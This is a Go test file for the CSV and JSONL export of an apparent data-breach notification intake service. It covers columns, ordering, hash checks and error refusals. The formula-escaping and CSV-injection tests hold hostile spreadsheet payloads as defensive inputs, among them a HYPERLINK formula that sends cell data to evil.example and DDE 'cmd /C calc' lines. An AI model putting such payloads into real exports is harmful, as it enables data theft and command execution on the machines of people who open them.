package export_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"maps"
	"math/rand/v2"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/breach-intake/intake/internal/breach"
	"github.com/breach-intake/intake/internal/export"
)

// stored builds a version as the intake stores it, from an example report of
// internal/breach/testdata changed by edit (nil: as is), received at received.
func stored(t *testing.T, file string, edit func(map[string]any), org breach.Organisation, id breach.ReportID, received time.Time) (breach.Version, breach.Receipt) {
	t.Helper()
	body, err := os.ReadFile("../breach/testdata/" + file)
	if err != nil {
		t.Fatal(err)
	}
	if edit != nil {
		var m map[string]any
		if err := json.Unmarshal(body, &m); err != nil {
			t.Fatal(err)
		}
		edit(m)
		if body, err = json.Marshal(m); err != nil {
			t.Fatal(err)
		}
	}
	r, err := breach.NewParser().Parse(body, org, received)
	if err != nil {
		t.Fatalf("%s: %v", file, err)
	}
	aware := r.Incident.AwareAt.T
	covered := breach.FirstCoverage(r.Regimes, aware, received)
	late := breach.IsLate(r.Regimes, aware, covered, slices.Collect(maps.Keys(covered)), received)
	v, rc, err := breach.NewVersion(org.ID, id, 1, breach.StageInitial, received, breach.SeverityOf(r, late), late,
		breach.Deadlines(r.Regimes, aware, covered, received), r)
	if err != nil {
		t.Fatal(err)
	}
	return v, rc
}

var (
	chu      = breach.Organisation{ID: "chu-exemple", LegalName: "Centre Hospitalier Exemple", SIREN: "267500452", Country: "FR"}
	mutuelle = breach.Organisation{ID: "mutuelle-exemple", LegalName: "Mutuelle Exemple", SIREN: "775685019", Country: "FR"}
	received = time.Date(2026, 11, 21, 12, 0, 0, 250_000_000, time.UTC)
)

func scanOf(vs ...breach.Version) export.Scan {
	return func(_ context.Context, fn func(breach.Version) error) error {
		for _, v := range vs {
			if err := fn(v); err != nil {
				return err
			}
		}
		return nil
	}
}

func run(t *testing.T, opt export.Options, vs ...breach.Version) (string, export.Summary) {
	t.Helper()
	var out bytes.Buffer
	sum, err := export.Run(context.Background(), scanOf(vs...), &out, opt)
	if err != nil {
		t.Fatal(err)
	}
	if sum.Bytes != int64(out.Len()) {
		t.Errorf("summary says %d bytes, wrote %d", sum.Bytes, out.Len())
	}
	return out.String(), sum
}

// readCSV reads an export back with encoding/csv: every row, as header name → cell.
func readCSV(t *testing.T, s string) (header []string, rows []map[string]string) {
	t.Helper()
	recs, err := csv.NewReader(strings.NewReader(s)).ReadAll()
	if err != nil {
		t.Fatalf("encoding/csv cannot read the export back: %v\n%s", err, s)
	}
	header = recs[0]
	for _, rec := range recs[1:] {
		row := map[string]string{}
		for i, h := range header {
			row[h] = rec[i]
		}
		rows = append(rows, row)
	}
	return header, rows
}

// TestCSVColumns: every column of a real stored document (NIS2 health ransomware; a late
// processor case with a processor, member states and a late reason), as stored.
func TestCSVColumns(t *testing.T) {
	nis2, nis2Receipt := stored(t, "nis2-health-ransomware.json", nil, chu, "01KAZ3J8Q4V2M7X9R5T6Y1B0C1", received)
	late, lateReceipt := stored(t, "processor-late.json", nil, mutuelle, "01KAZ3J8Q4V2M7X9R5T6Y1B0C2", received.Add(time.Second))
	out, sum := run(t, export.Options{Format: export.CSV}, late, nis2)
	if sum.Versions != 2 || sum.Reports != 2 || sum.Organisations != 2 {
		t.Errorf("summary %+v", sum)
	}
	if !strings.HasSuffix(out, "\r\n") || strings.Count(out, "\r\n") != 3 {
		t.Errorf("want three CRLF-ended lines:\n%q", out)
	}
	header, rows := readCSV(t, out)
	if !slices.Equal(header, export.Columns) {
		t.Fatalf("header %v, want %v", header, export.Columns)
	}
	if len(rows) != 2 {
		t.Fatalf("%d rows", len(rows))
	}
	want := []map[string]string{{
		"report_id": "01KAZ3J8Q4V2M7X9R5T6Y1B0C1", "version": "1", "org_id": "chu-exemple",
		"received_at": "2026-11-21T12:00:00.25Z", "stage": "initial", "severity": "critical", "late": "false", "late_reason": "",
		"regimes":                 "gdpr|nis2",
		"organisation_legal_name": "Centre Hospitalier Exemple", "organisation_siren": "267500452",
		"organisation_sector": "health", "organisation_country": "FR", "organisation_role": "essential_entity",
		"processor_legal_name": "", "processor_siren": "",
		"incident_title":       "Ransomware on the imaging servers",
		"incident_occurred_at": "2026-11-20T22:10:00Z", "incident_discovered_at": "2026-11-21T05:45:00Z",
		"incident_aware_at": "2026-11-21T06:30:00Z", "incident_ongoing": "true", "incident_cause": "malicious_external",
		"incident_breach_types": "confidentiality|availability", "incident_cross_border": "false", "incident_member_states": "",
		"subjects_affected": "58000", "subjects_estimate": "approximate", "records_affected": "310000",
		"subject_categories": "patients|employees", "data_categories": "identity|contact|national_id|health",
		"subjects_informed_status": "planned",
		// Received 5 h 30 min after aware_at: the early warning and the notification are met.
		"deadlines": "gdpr.notification=2026-11-24T06:30:00Z:true|nis2.early_warning=2026-11-22T06:30:00Z:true|" +
			"nis2.notification=2026-11-24T06:30:00Z:true|nis2.final=2026-12-21T12:00:00.25Z:pending",
		"sha256": nis2Receipt.SHA256,
	}, {
		"report_id": "01KAZ3J8Q4V2M7X9R5T6Y1B0C2", "version": "1", "org_id": "mutuelle-exemple",
		"received_at": "2026-11-21T12:00:01.25Z", "stage": "initial", "severity": "critical", "late": "true",
		"late_reason":             "The processor informed us on 30 October; the scope was confirmed only after its forensic report.",
		"regimes":                 "gdpr",
		"organisation_legal_name": "Mutuelle Exemple", "organisation_siren": "775685019",
		"organisation_sector": "insurance", "organisation_country": "FR", "organisation_role": "controller",
		"processor_legal_name": "Tiers Payant Exemple SAS", "processor_siren": "443061841",
		"incident_title":       "Third-party payment platform accessed with stolen practitioner credentials",
		"incident_occurred_at": "2026-10-01T00:00:00Z", "incident_discovered_at": "2026-10-28T09:00:00Z",
		"incident_aware_at": "2026-10-30T09:00:00Z", "incident_ongoing": "", "incident_cause": "malicious_external",
		"incident_breach_types": "confidentiality", "incident_cross_border": "true", "incident_member_states": "BE",
		"subjects_affected": "410000", "subjects_estimate": "approximate", "records_affected": "",
		"subject_categories": "beneficiaries", "data_categories": "identity|national_id|financial",
		"subjects_informed_status": "yes",
		"deadlines":                "gdpr.notification=2026-11-02T09:00:00Z:false",
		"sha256":                   lateReceipt.SHA256,
	}}
	for i := range want {
		if len(want[i]) != len(export.Columns) {
			t.Fatalf("test: row %d names %d columns of %d", i, len(want[i]), len(export.Columns))
		}
		for _, c := range export.Columns {
			if rows[i][c] != want[i][c] {
				t.Errorf("row %d %s = %q, want %q", i, c, rows[i][c], want[i][c])
			}
		}
	}
	// No contact detail without WithContacts.
	for _, s := range []string{"Paul Lef", "rssi@chu-exemple.fr", "+33 2 40", "RSSI", "Inès Moreau", "dpo@mutuelle-exemple.fr"} {
		if strings.Contains(out, s) {
			t.Errorf("contact detail %q in an export without contacts", s)
		}
	}
}

func TestCSVWithContacts(t *testing.T) {
	v, _ := stored(t, "nis2-health-ransomware.json", nil, chu, "01KAZ3J8Q4V2M7X9R5T6Y1B0C1", received)
	out, _ := run(t, export.Options{Format: export.CSV, WithContacts: true}, v)
	header, rows := readCSV(t, out)
	if !slices.Equal(header, append(slices.Clone(export.Columns), export.ContactColumns...)) {
		t.Fatalf("header %v", header)
	}
	for c, want := range map[string]string{"reporter_name": "Paul Lefèvre", "reporter_role": "RSSI",
		"reporter_email": "rssi@chu-exemple.fr", "reporter_phone": "'+33 2 40 00 00 00"} { // + escaped
		if rows[0][c] != want {
			t.Errorf("%s = %q, want %q", c, rows[0][c], want)
		}
	}
}

// TestJSONLIsTheStoredDocuments: each line is a stored document byte for byte, so its SHA-256
// is the receipt's and the CSV's sha256; lines and rows in the same order.
func TestJSONLIsTheStoredDocuments(t *testing.T) {
	a, ra := stored(t, "nis2-health-ransomware.json", nil, chu, "01KAZ3J8Q4V2M7X9R5T6Y1B0C1", received)
	b, rb := stored(t, "processor-late.json", nil, mutuelle, "01KAZ3J8Q4V2M7X9R5T6Y1B0C2", received.Add(-time.Hour))
	out, sum := run(t, export.Options{Format: export.JSONL}, a, b)
	if sum.Versions != 2 || sum.Bytes != int64(len(a.Document)+len(b.Document)+2) {
		t.Errorf("summary %+v", sum)
	}
	lines := strings.SplitAfter(out, "\n")
	if len(lines) != 3 || lines[2] != "" {
		t.Fatalf("want two newline-ended lines:\n%s", out)
	}
	csvOut, _ := run(t, export.Options{Format: export.CSV}, a, b)
	_, rows := readCSV(t, csvOut)
	for i, want := range []struct {
		v  breach.Version
		rc breach.Receipt
	}{{b, rb}, {a, ra}} { // b was received first
		line := strings.TrimSuffix(lines[i], "\n")
		if line != string(want.v.Document) {
			t.Errorf("line %d is not %s v%d's stored document", i+1, want.v.ReportID, want.v.Number)
		}
		sum := sha256.Sum256([]byte(line))
		digest := hex.EncodeToString(sum[:])
		if digest != want.rc.SHA256 || digest != rows[i]["sha256"] {
			t.Errorf("line %d: SHA-256 %s, receipt %s, csv %s", i+1, digest, want.rc.SHA256, rows[i]["sha256"])
		}
	}
}

// TestOrder: received_at, then report id, then version, whatever the scan's order.
func TestOrder(t *testing.T) {
	at := time.Date(2026, 11, 21, 12, 0, 0, 0, time.UTC)
	mk := func(id breach.ReportID, n int, received time.Time) breach.Version {
		doc := []byte(`{"id":"` + string(id) + `"}`)
		sum := sha256.Sum256(doc)
		return breach.Version{OrgID: "org", ReportID: id, Number: n, ReceivedAt: received, Document: doc, SHA256: hex.EncodeToString(sum[:])}
	}
	want := []breach.Version{
		mk("01KAZ3J8Q4V2M7X9R5T6Y1B0CB", 1, at.Add(-time.Hour)),
		mk("01KAZ3J8Q4V2M7X9R5T6Y1B0CA", 1, at),
		mk("01KAZ3J8Q4V2M7X9R5T6Y1B0CA", 2, at),
		mk("01KAZ3J8Q4V2M7X9R5T6Y1B0CB", 2, at),
		mk("01KAZ3J8Q4V2M7X9R5T6Y1B0CA", 3, at.Add(time.Nanosecond)),
	}
	for seed := range uint64(20) {
		vs := slices.Clone(want)
		rand.New(rand.NewPCG(seed, 0)).Shuffle(len(vs), func(i, j int) { vs[i], vs[j] = vs[j], vs[i] })
		out, sum := run(t, export.Options{Format: export.JSONL}, vs...)
		var wantOut strings.Builder
		for _, v := range want {
			wantOut.Write(v.Document)
			wantOut.WriteByte('\n')
		}
		if out != wantOut.String() || sum.Reports != 2 || sum.Organisations != 1 {
			t.Fatalf("seed %d:\n%s\nwant\n%s", seed, out, wantOut.String())
		}
	}
}

// TestEscapeFormula: OWASP's CSV Injection list (= + - @ tab CR LF), ASVS's NUL, the same after
// leading white space, numbers included; everything else untouched.
func TestEscapeFormula(t *testing.T) {
	for _, c := range []struct{ in, want string }{
		{"=1+2", "'=1+2"},
		{"+1+2", "'+1+2"},
		{"-1+1", "'-1+1"},
		{"-5", "'-5"}, // a negative number: never in our data, and text rather than a risk
		{"-", "'-"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1+2", "'\t=1+2"},
		{"\tplain", "'\tplain"},
		{"\r=1+2", "'\r=1+2"},
		{"\n=1+2", "'\n=1+2"},
		{"\x00=1+2", "'\x00=1+2"},
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		// Leading white space that an import may trim.
		{" =1+2", "' =1+2"},
		{"   -1", "'   -1"},
		{"\u00a0+1", "'\u00a0+1"},
		{"\u3000@x", "'\u3000@x"},
		{" \t\r\n@x", "' \t\r\n@x"},
		// Harmless.
		{"", ""},
		{"   ", "   "},
		{" plain", " plain"},
		{"0", "0"},
		{"58000", "58000"},
		{"2026-11-21T10:00:00Z", "2026-11-21T10:00:00Z"},
		{"gdpr.notification=2026-11-24T06:30:00Z:true", "gdpr.notification=2026-11-24T06:30:00Z:true"},
		{"a=1+2", "a=1+2"},
		{"1-1", "1-1"},
		{"'=1+2", "'=1+2"}, // already text
		{"Lefèvre", "Lefèvre"},
		{"＝1+2", "＝1+2"}, // full-width: not a formula to Excel or Calc
	} {
		if got := export.EscapeFormula(c.in); got != c.want {
			t.Errorf("EscapeFormula(%q) = %q, want %q", c.in, got, c.want)
		}
	}
}

// TestCSVInjection: hostile strings in every kind of free-text field come out as text: OWASP's
// two examples byte for byte, separators and quotes inside a cell, a title "-1+1". Read back with
// encoding/csv, each cell is the escaped text, in its own column.
func TestCSVInjection(t *testing.T) {
	hostile := map[string]string{
		"incident_title":          `=1+2";=1+2`,          // OWASP's first example
		"organisation_legal_name": `=1+2'" ;,=1+2`,       // OWASP's second example
		"late_reason":             "-1+1",                // a "number" that is a formula
		"processor_legal_name":    "a;=cmd|'/C calc'!A0", // a cell only for a ';' splitter
		"reporter_name":           "@SUM(1+1)*cmd|' /C calc'!A0",
		"reporter_role":           "\t=1+2",
		"reporter_phone":          "+33 1 23 45 67 89",
		"reporter_email":          "x@example.fr",
	}
	v, _ := stored(t, "processor-late.json", func(m map[string]any) {
		m["incident"].(map[string]any)["title"] = hostile["incident_title"]
		m["organisation"].(map[string]any)["legal_name"] = hostile["organisation_legal_name"]
		m["late_reason"] = hostile["late_reason"]
		m["processor"].(map[string]any)["legal_name"] = hostile["processor_legal_name"]
		m["reporter"] = map[string]any{"name": hostile["reporter_name"], "role": hostile["reporter_role"],
			"phone": hostile["reporter_phone"], "email": hostile["reporter_email"]}
	}, mutuelle, "01KAZ3J8Q4V2M7X9R5T6Y1B0C2", received)
	out, _ := run(t, export.Options{Format: export.CSV, WithContacts: true}, v)
	for _, want := range []string{`"'=1+2"";=1+2"`, `"'=1+2'"" ;,=1+2"`} { // OWASP's escaped outputs
		if !strings.Contains(out, ","+want+",") {
			t.Errorf("no cell %s in\n%s", want, out)
		}
	}
	_, rows := readCSV(t, out)
	for c, in := range hostile {
		want := in
		if c != "reporter_email" && c != "processor_legal_name" {
			want = "'" + in
		}
		if rows[0][c] != want {
			t.Errorf("%s = %q, want %q", c, rows[0][c], want)
		}
	}
	// Every cell is wholly in double quotes: outside them there are only the separators ',' and
	// the CRLF line ends, so a ';' (French Excel's separator) is always inside a quoted cell and
	// cannot start a new one.
	inQuotes := false
	for i, c := range out {
		switch {
		case c == '"':
			inQuotes = !inQuotes
		case !inQuotes && c != ',' && c != '\r' && c != '\n':
			t.Fatalf("byte %d %q outside quotes:\n%s", i, c, out)
		}
	}
}

// TestCSVRoundTrip: whatever a cell holds (separators, quotes, line ends, non-ASCII), encoding/csv
// reads back the escaped cell in its column.
func TestCSVRoundTrip(t *testing.T) {
	titles := []string{"a,b", `say "hi"`, "line\nbreak", "cr\r\nlf", "semi;colon", `"`, `""`, " lead", "trail ", "é—ü", "x"}
	var vs []breach.Version
	for i, title := range titles {
		v, _ := stored(t, "gdpr-minimal.json", func(m map[string]any) { m["incident"].(map[string]any)["title"] = title },
			breach.Organisation{ID: "boulangerie", LegalName: "Boulangerie Exemple SARL", Country: "FR"},
			breach.ReportID("01KAZ3J8Q4V2M7X9R5T6Y1B0D"+string(rune('A'+i))), received.Add(time.Duration(i)*time.Second))
		vs = append(vs, v)
	}
	out, _ := run(t, export.Options{Format: export.CSV}, vs...)
	_, rows := readCSV(t, out)
	for i, title := range titles {
		// encoding/csv turns a quoted CRLF into LF, as RFC 4180 readers do.
		want := strings.ReplaceAll(title, "\r\n", "\n")
		if rows[i]["incident_title"] != want || rows[i]["incident_cause"] != "accidental_external" {
			t.Errorf("row %d: title %q, cause %q; want %q", i, rows[i]["incident_title"], rows[i]["incident_cause"], want)
		}
	}
}

// TestRefusals: a document that does not hash to its digest, an unknown schema version and a
// failing scan stop the export with an error.
func TestRefusals(t *testing.T) {
	good, _ := stored(t, "gdpr-minimal.json", nil, breach.Organisation{ID: "boulangerie", LegalName: "B", Country: "FR"},
		"01KAZ3J8Q4V2M7X9R5T6Y1B0C1", received)
	tampered := good
	tampered.Document = bytes.Replace(good.Document, []byte("Laptop"), []byte("Lapt0p"), 1)
	schema2 := good
	schema2.Document = bytes.Replace(good.Document, []byte(`"schema_version":1`), []byte(`"schema_version":2`), 1)
	sum := sha256.Sum256(schema2.Document)
	schema2.SHA256 = hex.EncodeToString(sum[:])
	for name, c := range map[string]struct {
		scan   export.Scan
		format export.Format
		want   string
	}{
		"tampered csv":   {scanOf(good, tampered), export.CSV, "does not hash to its stored sha256"},
		"tampered jsonl": {scanOf(tampered), export.JSONL, "does not hash to its stored sha256"},
		"schema 2":       {scanOf(schema2), export.CSV, "schema_version 2"},
		"scan":           {func(context.Context, func(breach.Version) error) error { return errors.New("throttled") }, export.CSV, "throttled"},
		"format":         {scanOf(good), "xlsx", "want csv or jsonl"},
	} {
		_, err := export.Run(context.Background(), c.scan, &bytes.Buffer{}, export.Options{Format: c.format})
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%s: %v, want an error with %q", name, err, c.want)
		}
	}
}

// TestProgress: off a terminal, the scan's count and a bar line at every 10% written.
func TestProgress(t *testing.T) {
	var vs []breach.Version
	for i := range 20 {
		doc := []byte(`{}`)
		sum := sha256.Sum256(doc)
		vs = append(vs, breach.Version{OrgID: "org", ReportID: breach.ReportID(rune('A' + i)), Number: 1, ReceivedAt: received,
			Document: doc, SHA256: hex.EncodeToString(sum[:])})
	}
	var progress bytes.Buffer
	if _, err := export.Run(context.Background(), scanOf(vs...), &bytes.Buffer{}, export.Options{Format: export.JSONL, Progress: &progress}); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(progress.String(), "\n"), "\n")
	if len(lines) != 11 || lines[0] != "scanned 20 versions: done" ||
		lines[10] != "[##############################] 20/20 100%  written 60 B" ||
		!strings.HasPrefix(lines[1], "[###                           ] 2/20  10%") || strings.Contains(progress.String(), "\r") {
		t.Errorf("progress:\n%s", progress.String())
	}
	progress.Reset()
	if _, err := export.Run(context.Background(), scanOf(), &bytes.Buffer{}, export.Options{Format: export.CSV, Progress: &progress}); err != nil {
		t.Fatal(err)
	}
	if lines := strings.Split(progress.String(), "\n"); len(lines) != 3 || lines[0] != "scanned 0 versions: done" ||
		!strings.HasPrefix(lines[1], "[##############################] 0/0 100%  written ") {
		t.Errorf("empty export's progress:\n%s", progress.String())
	}
}

func TestParseTime(t *testing.T) {
	now := time.Date(2026, 12, 1, 15, 4, 5, 0, time.UTC)
	for _, c := range []struct {
		in   string
		want time.Time
	}{
		{"2026-11-01", time.Date(2026, 11, 1, 0, 0, 0, 0, time.UTC)},
		{"2026-11-01T08:00:00+01:00", time.Date(2026, 11, 1, 7, 0, 0, 0, time.UTC)},
		{"2026-11-01T08:00:00.5Z", time.Date(2026, 11, 1, 8, 0, 0, 500_000_000, time.UTC)},
		{"720h", now.Add(-720 * time.Hour)},
		{"90m", now.Add(-90 * time.Minute)},
		{"now", now},
	} {
		got, err := export.ParseTime(c.in, now)
		if err != nil || !got.Equal(c.want) {
			t.Errorf("ParseTime(%q) = %v, %v; want %v", c.in, got, err, c.want)
		}
	}
	for _, c := range []struct{ in, want string }{
		{"", "empty"},
		{"30d", "durations have no d"},
		{"2026-11-01T08:00:00", "needs its offset"},
		{"2026-13-01", "is neither a date"},
		{"01/11/2026", "is neither a date"},
		{"-24h", "must be positive"},
		{"yesterday", "is neither a date"},
	} {
		if _, err := export.ParseTime(c.in, now); err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("ParseTime(%q): %v, want an error with %q", c.in, err, c.want)
		}
	}
}
